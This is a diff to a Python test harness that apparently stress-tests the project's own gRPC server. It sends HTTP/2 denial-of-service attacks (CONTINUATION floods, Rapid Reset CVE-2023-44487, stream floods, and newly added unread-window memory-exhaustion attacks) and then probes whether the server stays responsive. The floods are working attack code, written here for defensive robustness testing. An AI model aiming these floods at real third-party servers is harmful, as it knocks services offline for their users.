@@ -12,11 +12,19 @@ Attacks:
                  (CVE-2023-33953's unbounded buffering)
   continuation_headers
                  the same with endless small complete headers
-  rapid_reset    HEADERS + DATA + RST_STREAM, repeated (CVE-2023-44487)
+  rapid_reset    HEADERS + DATA + RST_STREAM, repeated (CVE-2023-44487); on
+                 an unknown method, or on a streaming one (rapid_reset_stream)
   streams        thousands of streams, each declaring a 2 GB message
   compressed     a gzip-compressed 500 MB Scan (a few hundred KB on the wire)
   flagged        a message flagged compressed with no grpc-encoding, one with
                  a bogus grpc-encoding, and a unary call with two messages
+  unread         unary AggregateByKeys asking 512 MiB answers from a client
+                 that never opens its receive window, in two waves
+  unread_multiplex
+                 the same on one Multiplex stream
+  unread_streams many SelectStreams of 4 MiB pieces, each answered in full,
+                 from a client whose receive window stays 1 KiB
+The probe after each comes from 127.0.0.2 (another caller to admission).
 """
 
 import argparse
@@ -94,12 +102,31 @@ SCAN = b"/primserve.v1.Primitives/Scan"
 REDUCE = b"/primserve.v1.Primitives/Reduce"
 
 
-class Connection:
-    """One HTTP/2 connection; a thread reads, acknowledges and collects."""
+def aggregate_request(num_keys):
+    """AggregateByKeyRequest{keys = [0] (INT32), values = [1] (INT64), op =
+    SUM, num_keys}: an answer of num_keys int64s from 12 bytes of arrays."""
+    keys = int32_array(struct.pack("<i", 0))
+    values = b"\x08\x02\x12\x08" + struct.pack("<q", 1)
+    return (b"\x0a" + varint(len(keys)) + keys + b"\x12" + varint(len(values)) + values +
+            b"\x18\x01\x20" + varint(num_keys))
 
-    def __init__(self, address, timeout=10.0):
+
+SCAN = b"/primserve.v1.Primitives/Scan"
+REDUCE = b"/primserve.v1.Primitives/Reduce"
+AGGREGATE = b"/primserve.v1.Primitives/AggregateByKey"
+MULTIPLEX = b"/primserve.v1.Primitives/Multiplex"
+SELECT_STREAM = b"/primserve.v1.Primitives/SelectStream"
+
+
+class Connection:
+    """One HTTP/2 connection; a thread reads, acknowledges and collects.
+    `read_window`: the stream window the client grants the server, never
+    widened (nor the connection's) when given; `source`: the local address."""
+
+    def __init__(self, address, timeout=10.0, read_window=None, source=None):
         host, port = address.rsplit(":", 1)
-        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
+        self.sock = socket.create_connection((host, int(port)), timeout=timeout,
+                                             source_address=(source, 0) if source else None)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.lock = threading.Lock()
         self.cond = threading.Condition()
@@ -115,8 +142,12 @@ class Connection:
         self.stream_windows = {}  # stream -> send window, once it moved
         self.decoder = Decoder()
         self.decoder.max_allowed_table_size = 1 << 16
-        self.send(PREFACE + frame(SETTINGS, 0, 0) +
-                  frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
+        if read_window is None:
+            self.send(PREFACE + frame(SETTINGS, 0, 0) +
+                      frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
+        else:
+            self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(
+                ">HI", SETTINGS_INITIAL_WINDOW_SIZE, read_window)))
         # Nothing may come between HEADERS and its CONTINUATIONs: while set,
         # the reader acknowledges nothing.
         self.quiet = False
@@ -205,14 +236,15 @@ class Connection:
                 self.ended.add(stream)
                 self.cond.notify_all()
 
-    def send_data(self, stream, data, end):
-        """DATA frames within the connection's send window."""
+    def send_data(self, stream, data, end, wait_s=10):
+        """DATA frames within the connection's send window (TimeoutError
+        after wait_s without room)."""
         for i in range(0, max(len(data), 1), 16384):
             chunk = data[i:i + 16384]
             def room():
                 return min(self.window, self.stream_windows.get(stream, self.stream_window))
             with self.cond:
-                if not self.cond.wait_for(lambda: self.closed or room() >= len(chunk), 10):
+                if not self.cond.wait_for(lambda: self.closed or room() >= len(chunk), wait_s):
                     raise TimeoutError("no flow-control window")
                 if self.closed:
                     raise ConnectionError("closed")
@@ -286,10 +318,12 @@ class Watch:
 
 
 def probe(address):
-    """Seconds for a 100-element Reduce on a fresh connection, and its status."""
+    """Seconds for a 100-element Reduce on a fresh connection from another
+    caller than the attacks' (127.0.0.2 on loopback), and its status."""
     start = time.monotonic()
+    host = address.rsplit(":", 1)[0]
     try:
-        conn = Connection(address)
+        conn = Connection(address, source="127.0.0.2" if host.startswith("127.") else None)
         conn.send(frame(HEADERS, END_HEADERS, 1, request_block(REDUCE)))
         conn.send_data(1, grpc_message(reduce_request(list(range(100)))), True)
         status, _ = conn.wait_status(1, timeout=20)
@@ -427,6 +461,87 @@ def flagged(address):
     return result
 
 
+def unread(address, requests, hold_s, multiplex, connections=4):
+    """`requests` AggregateByKeys of 512 MiB answers, then as many again
+    after hold_s / 2, over `connections` connections whose receive windows
+    stay 1 KiB; held open hold_s in all. Counts the unary calls refused
+    RESOURCE_EXHAUSTED (Multiplex's refusals are answers, which the closed
+    window holds back)."""
+    conns = [Connection(address, read_window=1024) for _ in range(connections)]
+    message = aggregate_request(1 << 26)
+    sent = 0
+
+    def wave(first):
+        nonlocal sent
+        for i in range(first, first + requests):
+            conn = conns[i % connections]
+            if multiplex:
+                inner = b"\x08" + varint(i + 1) + b"\x42" + varint(len(message)) + message
+                conn.send_data(1, grpc_message(inner), False)
+            else:
+                stream = 1 + 2 * (i // connections)
+                conn.send(frame(HEADERS, END_HEADERS, stream, request_block(AGGREGATE)))
+                conn.send_data(stream, grpc_message(message), True)
+            sent += 1
+
+    if multiplex:
+        for conn in conns:
+            conn.send(frame(HEADERS, END_HEADERS, 1, request_block(MULTIPLEX)))
+    try:
+        wave(0)
+        time.sleep(hold_s / 2)
+        wave(requests)
+    except (OSError, ConnectionError, TimeoutError):
+        pass
+    time.sleep(hold_s / 2)
+    refused = 0
+    for conn in conns:
+        with conn.cond:
+            refused += sum(1 for blocks in conn.headers.values() for block in blocks
+                           if block.get("grpc-status") == "8")
+    result = {"requests_sent": sent, "refused": refused,
+              "server_closed": any(conn.closed for conn in conns)}
+    for conn in conns:
+        conn.close()
+    return result
+
+
+def unread_streams(address, count, pieces, hold_s):
+    """`count` SelectStreams (NONZERO over INT32 ones, so every element is
+    kept), `pieces` pieces of 4 MiB each, sent round-robin while the server
+    takes them, answers never read; held open hold_s. Counts the streams
+    ended RESOURCE_EXHAUSTED."""
+    conn = Connection(address, read_window=1024)
+    data = b"\x01\x00\x00\x00" * (1 << 20)
+    first = grpc_message(b"\x0a" + varint(len(int32_array(data))) + int32_array(data) +
+                         b"\x12\x02\x08\x01")
+    rest = grpc_message(b"\x0a" + varint(len(int32_array(data))) + int32_array(data))
+    streams = [1 + 2 * i for i in range(count)]
+    for stream in streams:
+        conn.send(frame(HEADERS, END_HEADERS, stream, request_block(SELECT_STREAM)))
+    sent = 0
+    stalled = set()
+    for piece in range(pieces):
+        for stream in streams:
+            if stream in stalled or conn.closed:
+                continue
+            try:
+                conn.send_data(stream, first if piece == 0 else rest, False, wait_s=0.2)
+                sent += 1
+            except TimeoutError:
+                stalled.add(stream)
+            except (OSError, ConnectionError):
+                break
+    time.sleep(hold_s)
+    with conn.cond:
+        refused = sum(1 for blocks in conn.headers.values() for block in blocks
+                      if block.get("grpc-status") == "8")
+    result = {"pieces_sent": sent, "sent_mb": sent * 4, "refused": refused,
+              "server_closed": conn.closed}
+    conn.close()
+    return result
+
+
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--address", required=True)
@@ -438,6 +553,9 @@ def main():
     parser.add_argument("--resets", type=int, default=50000)
     parser.add_argument("--streams", type=int, default=20000)
     parser.add_argument("--compressed_mb", type=int, default=500)
+    parser.add_argument("--unread_requests", type=int, default=16)
+    parser.add_argument("--unread_hold_s", type=float, default=10)
+    parser.add_argument("--unread_pieces", type=int, default=8)
     args = parser.parse_args()
     runs = {
         "continuation": lambda: continuation(args.address, args.continuation_mb << 20, True),
@@ -446,9 +564,16 @@ def main():
         "rapid_reset": lambda: rapid_reset(args.address, args.resets),
         "rapid_reset_unknown_method": lambda: rapid_reset(args.address, args.resets,
                                                           b"/primserve.v1.Nothing/Here"),
+        "rapid_reset_stream": lambda: rapid_reset(args.address, args.resets,
+                                                  b"/primserve.v1.Primitives/ScanStream"),
         "streams": lambda: streams(args.address, args.streams),
         "compressed": lambda: compressed(args.address, args.compressed_mb),
         "flagged": lambda: flagged(args.address),
+        "unread": lambda: unread(args.address, args.unread_requests, args.unread_hold_s, False),
+        "unread_multiplex": lambda: unread(args.address, args.unread_requests,
+                                           args.unread_hold_s, True),
+        "unread_streams": lambda: unread_streams(args.address, args.unread_requests,
+                                                 args.unread_pieces, args.unread_hold_s),
         "probe": dict,
     }
     for name in args.attacks.split(","):
